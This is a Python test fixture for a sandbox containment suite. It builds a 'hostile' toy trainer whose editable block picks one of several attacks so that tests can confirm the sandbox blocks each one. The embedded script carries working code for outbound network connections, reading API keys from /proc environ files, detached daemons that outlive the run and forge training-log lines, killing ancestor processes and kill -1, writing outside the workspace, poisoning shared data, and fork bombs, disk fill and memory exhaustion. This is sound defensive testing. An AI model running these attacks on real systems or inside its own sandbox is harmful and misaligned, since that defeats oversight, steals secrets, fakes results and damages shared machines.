"""A hostile toy target for the containment suite: a trainer whose EVOLVE block picks an attack.

Every attack prints a marker line (`ATTACK <name> ...`) first, so a test can prove it ran. An attack
that is blocked exits non-zero with what blocked it (so the run is not a clean `ok` and the reason's
log tail names the cause); one that succeeds carries on as an honest trainer, so a sandbox that
lets it through ends `ok`, and the test fails. Every process of a run carries the target's tag in
its command line, so a test can tell whether any of them survived.
"""

from __future__ import annotations

import hashlib
import textwrap
from pathlib import Path

from search_space.target import Target, load_target

TRAIN = textwrap.dedent('''
    import argparse, glob, math, os, signal, socket, subprocess, sys, time
    p = argparse.ArgumentParser()
    p.add_argument("--seed", type=int, default=0)
    p.add_argument("--steps", type=int, default=20)
    p.add_argument("--data", default="")
    p.add_argument("--tag", default="")
    args = p.parse_args()

    # EVOLVE-BLOCK-START
    ATTACK, ARG = "none", ""
    # EVOLVE-BLOCK-END


    def say(*parts):
        print("ATTACK", ATTACK, *parts, flush=True)


    def blocked(why):
        say("blocked:", why)
        sys.exit(3)


    def spawn_daemon(keep_stdio, script):
        """Double fork + setsid: the daemon leaves the session, the process group and the tree."""
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                if not keep_stdio:
                    null = os.open(os.devnull, os.O_RDWR)
                    for fd in (0, 1, 2):
                        os.dup2(null, fd)
                os.execv("/bin/sh", ["/bin/sh", "-c", script, "daemon-" + args.tag])
            os._exit(0)
        os.wait()


    def attack():
        if ATTACK == "network":
            reached = 0
            for host in ARG.split(","):
                host, port = host.rsplit(":", 1)
                try:
                    socket.create_connection((host, int(port)), timeout=2).sendall(b"hello from the run")
                    say("connected to", host, port)
                    reached += 1
                except OSError as e:
                    say("no connection to", host, port, e)
            if not reached:
                blocked("no connection to this machine")
            return
        if ATTACK == "secrets":
            found = {k: v for k, v in os.environ.items() if "CANARY" in k or "API_KEY" in k}
            for path in glob.glob("/proc/[0-9]*/environ"):
                try:
                    for item in open(path, "rb").read().split(b"\\0"):
                        if b"CANARY" in item or b"API_KEY" in item:
                            found[path] = item.decode(errors="replace")
                except OSError as e:
                    say("cannot read", path, type(e).__name__)
            say("visible processes:", len(glob.glob("/proc/[0-9]*")))
            if not found:
                blocked("no secret in the environment or in /proc/*/environ")
            say("found", found)
            return
        if ATTACK in ("daemon-stdio", "daemon-nostdio"):
            # The daemon finishes the log after the trainer "exits": forged lines from a process
            # that outlives the run (with stdio), or hidden work after the end (without).
            spawn_daemon(ATTACK == "daemon-stdio",
                         "sleep 1; i=0; while true; do echo \\"step:$i/20 val_loss:0.0100 train_time:1ms\\"; "
                         "echo alive > daemon.ok; i=$((i+1)); sleep 0.2; done")
            say("daemon started; the trainer leaves early")
            print("step:0/20 val_loss:4.0000 train_time:0ms step_avg:0.00ms", flush=True)
            sys.exit(0)
        if ATTACK == "kill-ancestors":
            # Its own ancestors only (its parent, the caller, the test above it), found through
            # /proc: a sandbox that shows them lets it kill them. Never a broad kill: if a sandbox
            # failed open, this must not take the machine's other processes with it.
            victims, pid = [], os.getppid()
            while pid > 1:
                victims.append(pid)
                try:
                    pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
                except (OSError, ValueError, IndexError):
                    break
            say("signalling its ancestors", victims)
            for pid in victims:
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError as e:
                    say("cannot kill", pid, e)
            if os.getuid() != 0:  # as root outside a pid namespace, kill -1 would reach everything
                say("and every process it may signal (kill -1)")
                os.kill(-1, signal.SIGKILL)
                time.sleep(1)
            blocked("still alive after killing its ancestors")
        if ATTACK == "write-outside":
            failures = []
            for path in ARG.split(","):
                try:
                    with open(path, "a") as f:
                        f.write("written by the run\\n")
                    say("wrote", path)
                except OSError as e:
                    failures.append(f"{path}: {e}")
            if failures:
                blocked("; ".join(failures))
            return
        if ATTACK == "write-data":
            try:
                with open(os.path.join(args.data, "shard.bin"), "ab") as f:
                    f.write(b"poison")
                os.makedirs(os.path.join(args.data, "extra"))
            except OSError as e:
                blocked(f"the data folder: {e}")
            say("poisoned the data folder")
            return
        if ATTACK == "log-flood":
            say("flooding")
            line = "x" * 1023 + "\\n"
            while True:
                sys.stdout.write(line * 1024)
        if ATTACK == "disk-fill":
            say("filling the workspace")
            with open("fill.bin", "wb") as f:
                block = b"\\0" * (1 << 20)
                while True:
                    f.write(block)
                    f.flush()
        if ATTACK == "fork-bomb":
            say("forking")
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(0.05)
        if ATTACK == "memory-hog":
            say("allocating")
            hog = []
            while True:
                hog.append(bytearray(64 << 20))
                for i in range(0, len(hog[-1]), 4096):
                    hog[-1][i] = 1
        if ATTACK == "hang":
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            say("ignoring SIGTERM and sleeping")
            while True:
                time.sleep(1)


    if ATTACK != "none":
        attack()
    t0 = time.perf_counter()
    for step in range(args.steps + 1):
        if step % max(1, args.steps // 5) == 0 or step == args.steps:
            ms = (time.perf_counter() - t0) * 1000
            loss = 1 + 3 * math.exp(-step / args.steps)
            print(f"step:{step}/{args.steps} val_loss:{loss:.4f} train_time:{ms:.0f}ms "
                  f"step_avg:{ms / max(step, 1):.2f}ms", flush=True)
        time.sleep(0.01)
''')

TOML = '''
name = "hostile"
description = "a trainer that attacks its sandbox (tests only)"
[repo]
path = "."
[run]
command = "python train.py --seed {seed} --steps {steps} --data {data} --tag TAG"
[files]
editable = ["train.py"]
frozen = ["target.toml"]
markers = true
[readout]
format = "speedrun"
[objective]
kind = "time_to_target"
target_loss = 2.0
[fidelities]
smoke = { steps = 2 }
short = { steps = 10 }
full = { steps = 20 }
[resources]
cpus = 1
memory_mb = 256
timeout_s = TIMEOUT
pids = 64
log_mb = 4
disk_mb = 64
[data]
path = "DATA"
'''


def make_hostile(root: Path, data: Path, tag: str, timeout_s: float = 15) -> Target:
    """The hostile target in `root`, reading the shared data folder `data`; `tag` marks its processes."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "train.py").write_text(TRAIN)
    toml = TOML.replace("TAG", tag).replace("TIMEOUT", str(float(timeout_s))).replace("DATA", str(data))
    (root / "target.toml").write_text(toml)
    return load_target(root)


def attack_patch(attack: str, arg: str = "") -> str:
    return ('train.py\n<<<<<<< SEARCH\nATTACK, ARG = "none", ""\n=======\n'
            f'ATTACK, ARG = {attack!r}, {arg!r}\n>>>>>>> REPLACE\n')


def tree_digest(path: Path) -> str:
    """A checksum of every file name and content under `path` (or of one file)."""
    h = hashlib.sha256()
    files = [path] if path.is_file() else sorted(p for p in path.rglob("*"))
    for p in files:
        h.update(str(p.relative_to(path.parent)).encode())
        if p.is_file():
            h.update(p.read_bytes())
    return h.hexdigest()
